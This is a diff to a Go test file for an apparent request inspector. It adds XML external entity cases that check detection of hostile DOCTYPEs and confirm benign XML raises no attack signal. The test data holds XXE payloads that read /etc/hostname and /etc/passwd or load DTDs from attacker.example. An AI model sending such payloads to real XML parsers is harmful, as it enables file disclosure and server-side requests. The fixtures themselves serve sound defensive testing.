@@ -56,7 +56,8 @@ func TestXXE(t *testing.T) {
 }
 
 // TestXXEBody checks that XXE in an XML body is found through what the parser makes of
-// it (the DOCTYPE as a parameter), and that an ordinary XML body passes.
+// it (the DOCTYPE as a parameter, a declaration when it has no internal subset), and
+// that an ordinary XML body, with a DOCTYPE or not, raises no attack signal.
 func TestXXEBody(t *testing.T) {
 	for _, tt := range []struct {
 		body string
@@ -65,6 +66,12 @@ func TestXXEBody(t *testing.T) {
 		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r><a>&x;</a></r>`, true},
 		{`<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></r>`, true},
 		{`<?xml version="1.0"?><r><a id="1">text</a><b>more</b></r>`, false},
+		// A DOCTYPE naming only an external DTD is a declaration XXE still judges.
+		{`<?xml version="1.0"?><!DOCTYPE note SYSTEM "http://attacker.example/note.dtd"><note>hi</note>`, true},
+		{`<!DOCTYPE x PUBLIC "-//A//B" "https://attacker.example/b.dtd"><x/>`, true},
+		{`<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`, true},
+		{`<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`, false},
+		{`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>`, false},
 	} {
 		r := &request.Request{Method: "POST", URI: "/api", Path: "/api", Proto: "HTTP/1.1",
 			ContentType: "application/xml", Body: []byte(tt.body)}
@@ -72,6 +79,11 @@ func TestXXEBody(t *testing.T) {
 		Inspect(r)
 		if got := r.HasSignal(XXE); got != tt.want {
 			t.Errorf("XXE on %q = %v, want %v (signals %+v)", tt.body, got, tt.want, r.Signals)
+		}
+		for _, s := range r.Signals {
+			if !tt.want && IsAttack(s.Name) {
+				t.Errorf("%s on benign %q (signals %+v)", s.Name, tt.body, r.Signals)
+			}
 		}
 	}
 }
